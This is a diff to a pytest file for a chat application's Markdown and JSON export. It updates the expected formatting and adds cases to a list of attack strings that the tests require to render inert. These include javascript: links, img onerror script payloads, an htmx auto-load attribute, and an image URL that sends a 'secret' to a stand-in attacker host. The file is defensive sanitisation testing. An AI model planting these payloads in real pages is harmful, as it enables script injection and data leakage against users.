@@ -9,7 +9,7 @@ from html.parser import HTMLParser
 import pytest
 from markdown_it import MarkdownIt
 
-from chat.conversations import exports
+from chat.conversations import exports, markdown_doc
 from chat.conversations.imports import parse_import
 
 ATTACKS = (
@@ -17,6 +17,9 @@ ATTACKS = (
     "[x](javascript:alert(1))",
     "![x](https://attacker.example/p.png?q=secret)",
     '<div hx-get="/" hx-trigger="load">',
+    "\\<img src=x onerror=alert(2)>",
+    "`code` <img src=x onerror=alert(3)> ``more``",
+    "<javascript:alert(4)>",
 )
 SENT_AT = datetime(2025, 5, 1, 12, 0, 0, tzinfo=UTC)
 
@@ -134,18 +137,21 @@ def test_the_json_text_has_no_markup_characters_and_reads_back_the_same(records)
     [("plain", "```"), ("has ``` inside", "````"), ("````` five", "``````")],
 )
 def test_code_fences_are_longer_than_any_backtick_run(text, fence):
-    block = exports._fenced(text, "text")
+    block = markdown_doc.fenced(text, "text")
     assert block.startswith(fence + "text\n") and block.endswith("\n" + fence + "\n")
 
 
 def test_the_markdown_shows_title_prompt_turns_reasoning_and_parameters(export):
     text = exports.export_markdown(export)
     assert text.startswith("# Recursion\n")
-    assert "```text\nBe brief.\n```" in text
-    assert text.index("### You") < text.index("### Assistant")
-    assert text.count("### You") == 2 and text.count("### Assistant") == 1
-    assert "<details><summary>Reasoning</summary>\n\n```markdown\nThink.\n```\n\n</details>" in text
-    assert "| Parameter sent | Value |" in text and "| temperature | 0\\.4 |" in text
+    assert "## System prompt\n\n> Be brief.\n" in text
+    assert text.index("## You") < text.index("## Assistant")
+    assert text.count("## You") == 2 and text.count("## Assistant") == 1
+    assert "## You\n\nWhat is recursion?\n" in text
+    assert "_kimi-k2-thinking · complete · finish reason: stop_" in text
+    assert "<details><summary>Reasoning</summary>\n\n> Think.\n\n</details>" in text
+    assert "\nA function calling itself.\n" in text and "```" not in text
+    assert "| Parameter sent | Value |" in text and "| temperature | `0.4` |" in text
     assert "Regenerated." not in text  # another branch: only in the JSON tree
 
 
@@ -163,7 +169,7 @@ def test_a_refusal_is_exported_in_the_apis_shape_the_markdown_and_reads_back():
         "refusal": "I can't help with <b>that</b>.",
     }
     text = exports.export_markdown(export)
-    assert "Refusal (the model declined):\n\n```text\nI can't help with <b>that</b>.\n```" in text
+    assert "**Refusal** (the model declined):\n\n> I can't help with \\<b>that\\</b>.\n" in text
     imported = parse_import(exports.dumps(export).encode())
     assert imported.messages[-1]["refusal"] == "I can't help with <b>that</b>."
 
@@ -203,10 +209,11 @@ def test_attack_strings_in_the_markdown_are_inert(records, attack, where):
     )
     tags = _rendered_tags(exports.export_markdown(export))
     assert {tag for tag, _ in tags} <= {
-        "h1", "h3", "p", "pre", "code", "details", "summary", "strong", "em",
-        "table", "thead", "tbody", "tr", "th", "td",
+        "h1", "h2", "p", "pre", "code", "details", "summary", "strong", "em", "blockquote",
+        "table", "thead", "tbody", "tr", "th", "td", "a",
     }  # fmt: skip
-    assert all(not attrs.get("href") for _, attrs in tags)
+    # A link a model wrote stays a link, to the web only; nothing loads by itself.
+    assert all(attrs.get("href", "").startswith("https://") for tag, attrs in tags if tag == "a")
     assert all("hx-get" not in attrs and "src" not in attrs for _, attrs in tags)
 
 
@@ -271,9 +278,9 @@ def test_tool_results_are_exported_as_one_api_tool_message_per_call(tool_loop):
 
 def test_the_markdown_shows_each_call_and_its_result(tool_loop):
     text = exports.export_markdown(tool_loop)
-    assert "Tool calls:" in text and '"name": "get_weather"' in text
-    assert "### Tool results" in text
-    assert "Result for get\\_weather (this call failed), call call\\_1:" in text
+    assert "**Tool calls:**\n\n```json\n" in text and '"name": "get_weather"' in text
+    assert "## Tool results" in text
+    assert "**Result for `get_weather`** (this call failed), call `call_1`:" in text
     assert "```text\nSunny\n```" in text
 
 
